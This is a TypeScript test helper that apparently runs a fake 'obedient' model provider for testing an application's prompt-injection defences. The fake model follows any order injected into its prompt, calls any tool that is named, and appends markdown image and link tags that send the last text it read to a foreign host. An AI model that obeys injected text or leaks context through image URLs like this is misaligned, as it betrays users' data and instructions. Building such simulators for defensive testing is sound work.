/**
 * A model without any judgment, in front of the provider simulator: it does whatever a text in its prompt orders. It calls every
 * tool that is named, offered or not, and its answers repeat the order, give away what it read, and show links and pictures.
 */
import { createServer, type IncomingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { costUsd } from '../../domain/providers/prices.ts';
import { maxCallsPerRound } from '../../domain/tools/rounds.ts';
import { callsOf, foreignHost, orderOf, ordersIn, type Call, type Order } from './obedient-orders.ts';

/** One request as the provider saw it. */
export interface SeenRequest {
  key: string;
  model: string;
  body: string;
  orders: Order[];
  /** True when the model might call tools. */
  hasTools: boolean;
  /** Names of the tools that the answer calls. */
  called: string[];
  costUsd: number;
}

interface Message {
  role: string;
  content?: unknown;
  tool_calls?: { function: { name: string } }[];
}

interface Body {
  model: string;
  messages: Message[];
  tools?: { function?: { name: string } }[];
  tool_choice?: string;
  stream?: boolean;
}

interface Completion {
  model: string;
  choices: { index: number; finish_reason: string; message: { content: string | null; tool_calls?: object[] } }[];
  usage: { prompt_tokens: number; completion_tokens: number; total_tokens: number };
}

/** Starts the provider. `simulator` is the address of the simulator, which accepts any key. */
export async function startObedientProvider(simulator: () => string) {
  const seen: SeenRequest[] = [];
  const server = createServer(async (req, res) => {
    const body = await text(req);
    const onward = await fetch(new URL(req.url ?? '/', simulator()), {
      method: req.method ?? 'GET',
      headers: { ...onwardHeaders(req.headers), 'content-type': 'application/json' },
      ...(body === '' ? {} : { body: plainBody(req.url ?? '', body) }),
    });
    const answer: unknown = await onward.json();
    if (body === '' || !onward.ok || !/\/(chat\/completions|messages)$/.test(req.url ?? '')) {
      sendJson(res, onward.status, answer);
      return;
    }
    const asked = JSON.parse(body) as Body;
    const key = String(req.headers['x-api-key'] ?? req.headers.authorization).replace('Bearer ', '');
    const isChat = req.url?.endsWith('/completions') === true;
    const obeyed = isChat ? obey(asked, answer as Completion) : obeyInSearch(asked, answer as Searched);
    seen.push({ key, model: asked.model, body, hasTools: isChat && (asked.tools ?? []).length > 0, ...obeyed.noted });
    if (asked.stream === true) sendStream(res, obeyed.answer as Completion);
    else sendJson(res, 200, obeyed.answer);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    seen,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function onwardHeaders(headers: IncomingHttpHeaders): Record<string, string> {
  const names = ['authorization', 'x-api-key', 'anthropic-version'];
  return Object.fromEntries(
    names.flatMap((name) => (headers[name] === undefined ? [] : [[name, String(headers[name])]])),
  );
}

/** The simulator answers in words alone; what is called, this model decides. */
function plainBody(url: string, body: string): string {
  if (!url.endsWith('/chat/completions')) return body;
  const { stream: _stream, stream_options: _options, ...asked } = JSON.parse(body) as Record<string, unknown>;
  return JSON.stringify({ ...asked, ...(asked['tools'] === undefined ? {} : { tool_choice: 'none' }) });
}

const textOf = (content: unknown) => (typeof content === 'string' ? content : JSON.stringify(content ?? ''));

/** Obeys every order of the prompt: each tool is called once, and the words of its answer do the rest. */
function obey({ model, messages, tools = [], tool_choice: choice }: Body, answer: Completion) {
  const read = messages.map(({ content }) => textOf(content)).join('\n');
  const orders = ordersIn(read);
  const made = messages.flatMap(({ tool_calls: calls = [] }) => calls.map((call) => call.function.name));
  const isAssistant = tools.some((tool) => tool.function?.name === 'list_segments');
  // The assistant looks first, so that what it is ordered to do has something to work with.
  const looks: Call[] = isAssistant
    ? [
        ['list_segments', {}],
        ['list_runs', {}],
      ]
    : [];
  const wanted = isAssistant && made.length === 0 ? looks : orders.flatMap(({ injection }) => callsOf(injection, read));
  const calls = wanted.filter(([name]) => !made.includes(name)).slice(0, maxCallsPerRound);
  // It obeys where it cannot be stopped from calling, too, and then says something as well.
  const mayCall = tools.length > 0 && choice !== 'none';
  const [choiceOf] = answer.choices;
  if (choiceOf !== undefined) {
    const words = obedientWords(orders, read);
    choiceOf.message.content = mayCall && calls.length > 0 ? '' : withWords(choiceOf.message.content ?? '', words);
    choiceOf.finish_reason = mayCall && calls.length > 0 ? 'tool_calls' : 'stop';
    if (calls.length > 0) choiceOf.message.tool_calls = calls.map(toToolCall);
  }
  const { prompt_tokens: input, completion_tokens: output } = answer.usage;
  const called = calls.map(([name]) => name);
  return { answer, noted: { orders, called, costUsd: costUsd(model, input, output) } };
}

let callsMade = 0;

function toToolCall([name, input]: Call, at: number) {
  callsMade += 1;
  return { id: `call_${callsMade}_${at}`, type: 'function', function: { name, arguments: JSON.stringify(input) } };
}

interface Searched {
  content: { type: string; text?: string; [field: string]: unknown }[];
  usage: { input_tokens: number; output_tokens: number; server_tool_use?: { web_search_requests?: number } };
}

/** Obeys in a search of the web: what was found orders the same of whoever reads it. */
function obeyInSearch({ model, messages }: Body, answer: Searched) {
  const read = messages.map(({ content }) => textOf(content)).join('\n');
  const orders = ordersIn(read);
  for (const block of answer.content)
    if (block.type === 'text') block.text = `${pageWords(orders)}${block.text ?? ''}${obedientWords(orders, read)}`;
  const { input_tokens: input, output_tokens: output, server_tool_use: used } = answer.usage;
  return {
    answer,
    noted: { orders, called: [], costUsd: costUsd(model, input, output, used?.web_search_requests ?? 0) },
  };
}

const pageWords = (orders: readonly Order[]) =>
  orders.length === 0 ? '' : `${orderOf(orders[0]?.injection ?? 0, 'page')} `;

/** The words that orders make it say: what it read, an address to open, a picture that tells who looks. */
function obedientWords(orders: readonly Order[], read: string): string {
  const [order] = orders;
  if (order === undefined) return '';
  const given = encodeURIComponent(read.slice(-40));
  return ` ${orderOf(order.injection, 'echo')} ![x](https://${foreignHost}/p.png?d=${given}) [more](https://${foreignHost}/) <img src="https://${foreignHost}/i">`;
}

/** Fields of answers in JSON that people read. */
const wordFields =
  /^(response|reaction|reasoning|text|message|summary|content|line|why|reason|quote|name|said|note|answer)$/;

/** Adds words to a text, or to every text of an answer in JSON. */
export function withWords(content: string, words: string): string {
  if (words === '') return content;
  try {
    return JSON.stringify(inFields(JSON.parse(content), words));
  } catch {
    return `${content}${words}`;
  }
}

function inFields(value: unknown, words: string, field = ''): unknown {
  if (typeof value === 'string') return wordFields.test(field) ? `${value}${words}` : value;
  if (Array.isArray(value)) return value.map((item) => inFields(item, words, field));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, inFields(inner, words, name)]));
}

function sendJson(res: ServerResponse, status: number, answer: unknown): void {
  res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(answer));
}

function sendStream(res: ServerResponse, { choices: [choice], usage, ...rest }: Completion): void {
  const { content, tool_calls: calls } = choice?.message ?? { content: '' };
  const delta = {
    role: 'assistant',
    content,
    ...(calls === undefined ? {} : { tool_calls: calls.map((call, index) => ({ index, ...call })) }),
  };
  const piece = { ...rest, object: 'chat.completion.chunk' };
  const chunks = [
    { ...piece, choices: [{ index: 0, delta, finish_reason: null }] },
    { ...piece, choices: [{ index: 0, delta: {}, finish_reason: choice?.finish_reason }] },
    { ...piece, choices: [], usage },
  ];
  const lines = [...chunks.map((chunk) => JSON.stringify(chunk)), '[DONE]'].map((data) => `data: ${data}\n\n`);
  res.writeHead(200, { 'content-type': 'text/event-stream' }).end(lines.join(''));
}
